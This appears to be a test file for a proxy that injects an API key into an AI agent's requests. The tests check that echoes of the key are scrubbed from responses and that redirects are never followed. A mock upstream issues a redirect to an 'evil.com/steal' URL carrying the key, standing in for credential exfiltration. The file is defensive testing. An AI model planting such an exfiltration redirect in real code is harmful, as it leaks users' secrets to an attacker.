// Echo scrubbing (an upstream reflecting the injected value) and redirects (never followed).
import { brotliCompressSync, deflateSync, gunzipSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { leaks } from '../helpers/kit.js';
import { agentWith, header, send, startWorld, type AgentFx, type Recorded, type Sent, type World } from './helpers.js';

let w: World;
let fx: AgentFx;
// ':' '/' '+' '=' make the value's base64, percent and JSON forms differ from the raw bytes.
const VALUE = 'sk_live_ECHO:va/lue+x=Z9';
const auth = () => `Bearer ${fx.ph.K}`;
const echoOf = (r: Recorded) => r.headers.authorization ?? '';

beforeAll(async () => {
  w = await startWorld();
  fx = await agentWith(w.s, [{ key: 'K', value: VALUE, allowed_domains: ['api.stripe.com'], inject_in: ['header', 'query', 'body'] }]);
  const r = w.up.routes;
  r.set('/echo/identity', (q, res) => {
    res.setHeader('X-Echo', echoOf(q));
    res.end(JSON.stringify({ headers: q.headers, body: q.body.toString(), url: q.url }));
  });
  r.set('/echo/chunked', (q, res) => {
    res.setHeader('X-Echo', echoOf(q));
    const body = `auth=${echoOf(q)}; again ${echoOf(q)}; body=${q.body.toString()}`;
    let i = 0;
    const tick = () => (i < body.length ? res.write(body.slice(i, (i += 3)), () => setImmediate(tick)) : res.end());
    tick();
  });
  const compressed = (name: string, enc: (b: Buffer) => Buffer) =>
    r.set(`/echo/${name}`, (q, res) => {
      res.setHeader('Content-Encoding', name.replace('-', ', '));
      res.end(enc(Buffer.from(`echo: ${echoOf(q)}`)));
    });
  compressed('gzip', gzipSync);
  compressed('deflate', deflateSync);
  compressed('br', brotliCompressSync);
  compressed('gzip-gzip', (b) => gzipSync(gzipSync(b)));
  r.set('/echo/status', (q, res) => {
    res.statusMessage = `Invalid key ${echoOf(q).replace(/^Bearer /, '')}`;
    res.statusCode = 401;
    res.end('no');
  });
  r.set('/echo/url', (q, res) => res.end(`you asked for https://api.stripe.com${q.url}`));
  r.set('/echo/trailer', (q, res) => {
    res.writeHead(200, { Trailer: 'X-Sig', 'Transfer-Encoding': 'chunked' });
    res.write('body');
    res.addTrailers({ 'X-Sig': echoOf(q) });
    res.end();
  });
  r.set('/head', (_q, res) => res.writeHead(200, { 'Content-Length': '1234', 'Content-Type': 'application/octet-stream' }).end());
  r.set('/redirect', (q, res) => {
    const code = Number(new URL(q.url, 'https://x').searchParams.get('code') ?? 302);
    res.writeHead(code, { Location: `https://evil.com/steal?k=${echoOf(q).replace(/^Bearer /, '')}` });
    res.end();
  });
});
afterAll(() => w.close());
beforeEach(() => w.up.reset());

/** The agent-visible response, every part of it, as bytes. */
const seen = (r: Sent) => Buffer.concat([Buffer.from(`${r.status} ${r.statusMessage}\n${r.rawHeaders.join('\n')}\n`, 'latin1'), r.body]);
const injected = () => {
  expect(w.up.requests).toHaveLength(1);
  expect(w.up.requests[0]!.headers.authorization).toBe(`Bearer ${VALUE}`);
};
const clean = (r: Sent, decoded: Buffer = r.body) => {
  expect(leaks('response', Buffer.concat([seen(r), decoded]), VALUE)).toEqual([]);
};

describe('an echoed value is replaced by its placeholder before the agent sees it', () => {
  it('identity: in a header and in the body', async () => {
    const r = await send(w.s, fx, { path: '/echo/identity', headers: { Authorization: auth() } });
    injected();
    expect(r.headers['x-echo']).toBe(auth());
    expect(r.json.headers.authorization).toBe(auth());
    clean(r);
  });

  it('chunked in 3-byte pieces: every split of the value is still scrubbed', async () => {
    const r = await send(w.s, fx, { method: 'POST', path: '/echo/chunked', headers: { Authorization: auth() }, body: `v=${fx.ph.K}` });
    expect(r.text).toBe(`auth=${auth()}; again ${auth()}; body=v=${fx.ph.K}`);
    expect(w.up.requests[0]!.body.toString()).toBe(`v=${VALUE}`);
    clean(r);
  });

  for (const [name, decode] of [['gzip', gunzipSync], ['deflate', null], ['br', null]] as const) {
    it(`compressed (${name}) despite Accept-Encoding: identity: decompressed, scrubbed, sent uncompressed`, async () => {
      const r = await send(w.s, fx, { path: `/echo/${name}`, headers: { Authorization: auth(), 'Accept-Encoding': 'gzip, br' } });
      injected();
      expect(w.up.requests[0]!.headers['accept-encoding']).toBe('identity');
      expect(r.headers['content-encoding']).toBeUndefined();
      expect(r.text).toBe(`echo: ${auth()}`);
      clean(r);
      void decode;
    });
  }

  it('doubly compressed (gzip, gzip): both codings undone and scrubbed; the agent never receives bytes that decode to the value', async () => {
    const r = await send(w.s, fx, { path: '/echo/gzip-gzip', headers: { Authorization: auth() } });
    injected();
    expect(r.status).toBe(200);
    expect(r.headers['content-encoding']).toBeUndefined();
    expect(r.text).toBe(`echo: ${auth()}`);
    let decoded = r.body;
    for (let i = 0; i < 2; i++) {
      try {
        decoded = gunzipSync(decoded);
      } catch {
        break;
      }
    }
    clean(r, decoded);
  });

  it('a coding the proxy cannot undo (zstd, x-custom) → 502, none of the body relayed', async () => {
    for (const coding of ['zstd', 'gzip, x-custom']) {
      w.up.reset();
      w.up.routes.set('/echo/opaque', (q, res) => {
        res.setHeader('Content-Encoding', coding);
        res.end(`opaque ${echoOf(q)}`);
      });
      const r = await send(w.s, fx, { path: '/echo/opaque', headers: { Authorization: auth() } });
      injected();
      expect(r.status).toBe(502);
      expect(r.json).toEqual({ error: 'upstream request failed', code: 'upstream_failed' });
      clean(r);
    }
  });

  it('a transfer coding besides chunked (gzip, chunked) is undone and scrubbed too', async () => {
    w.up.routes.set('/echo/te', (q, res) => {
      res.setHeader('Transfer-Encoding', 'gzip, chunked');
      res.end(gzipSync(`te ${echoOf(q)}`));
    });
    const r = await send(w.s, fx, { path: '/echo/te', headers: { Authorization: auth() } });
    injected();
    let decoded = r.body;
    try {
      decoded = gunzipSync(r.body);
    } catch {
      // not gzip: the proxy decoded it
    }
    clean(r, decoded);
    expect(r.text).toBe(`te ${auth()}`);
  });

  it('in the status line reason phrase', async () => {
    const r = await send(w.s, fx, { path: '/echo/status', headers: { Authorization: auth() } });
    injected();
    expect(r.status).toBe(401);
    expect(r.statusMessage).toBe(`Invalid key ${fx.ph.K}`);
    clean(r);
  });

  it('Basic credentials echoed verbatim: the agent cannot decode the value from the echo', async () => {
    const basic = `Basic ${Buffer.from(`${fx.ph.K}:`).toString('base64')}`;
    const r = await send(w.s, fx, { path: '/echo/identity', headers: { Authorization: basic } });
    expect(w.up.requests[0]!.headers.authorization).toBe(`Basic ${Buffer.from(`${VALUE}:`).toString('base64')}`);
    expect(r.headers['x-echo']).toBe(basic);
    clean(r);
  });

  it('a query value echoed in its percent-encoded form is scrubbed too', async () => {
    const r = await send(w.s, fx, { path: `/echo/url?key=${fx.ph.K}`, headers: { Authorization: auth() } });
    expect(w.up.requests[0]!.url).toBe(`/echo/url?key=${encodeURIComponent(VALUE)}`);
    expect(r.text).toBe(`you asked for https://api.stripe.com/echo/url?key=${fx.ph.K}`);
    clean(r);
  });

  it('response trailers carrying the value: the body is relayed, and no form of the value reaches the agent (trailers themselves: echo-forms.test.ts)', async () => {
    const r = await send(w.s, fx, { path: '/echo/trailer', headers: { Authorization: auth() } });
    injected();
    expect(r.text).toBe('body');
    clean(r);
  });

  it('from a host no value may go to, the response passes through byte for byte (nothing to scrub, still compressed)', async () => {
    const r = await send(w.s, fx, { authority: 'evil.com:443', path: '/echo/gzip', headers: { Authorization: 'Bearer plain', 'Accept-Encoding': 'gzip' } });
    expect(r.headers['content-encoding']).toBe('gzip');
    expect(gunzipSync(r.body).toString()).toBe('echo: Bearer plain');
  });

  it('from a host a value may go to, even a request without one gets a decoded, scrubbed answer', async () => {
    const r = await send(w.s, fx, { path: '/echo/gzip', headers: { Authorization: `Bearer ${VALUE}`, 'Accept-Encoding': 'gzip' } });
    expect(header(w.up.requests[0]!, 'accept-encoding')).toBe('identity');
    expect(r.headers['content-encoding']).toBeUndefined();
    expect(r.text).toBe(`echo: Bearer ${fx.ph.K}`);
  });
});

describe('a response without a body keeps its Content-Length where responses are scrubbed', () => {
  it('HEAD: the representation\'s length reaches the agent (S3 HeadObject reads it); a GET body is still relayed without one', async () => {
    const head = await send(w.s, fx, { method: 'HEAD', path: '/head', headers: { Authorization: auth() } });
    expect([head.status, head.headers['content-length'], head.body.length]).toEqual([200, '1234', 0]);
    const get = await send(w.s, fx, { path: '/echo/identity', headers: { Authorization: auth() } });
    expect([get.status, get.headers['content-length'], get.headers['transfer-encoding']]).toEqual([200, undefined, 'chunked']);
  });
});

describe('redirects are never followed', () => {
  for (const code of [301, 302, 303, 307, 308]) {
    it(`${code} to evil.com reaches the client; the upstream saw one request; the Location echo is scrubbed`, async () => {
      const r = await send(w.s, fx, { method: 'POST', path: `/redirect?code=${code}`, headers: { Authorization: auth() }, body: 'x=1' });
      expect(r.status).toBe(code);
      expect(r.headers.location).toBe(`https://evil.com/steal?k=${fx.ph.K}`);
      expect(w.up.requests.map((q) => [q.sni, q.url])).toEqual([['api.stripe.com', `/redirect?code=${code}`]]);
      clean(r);
    });
  }
});
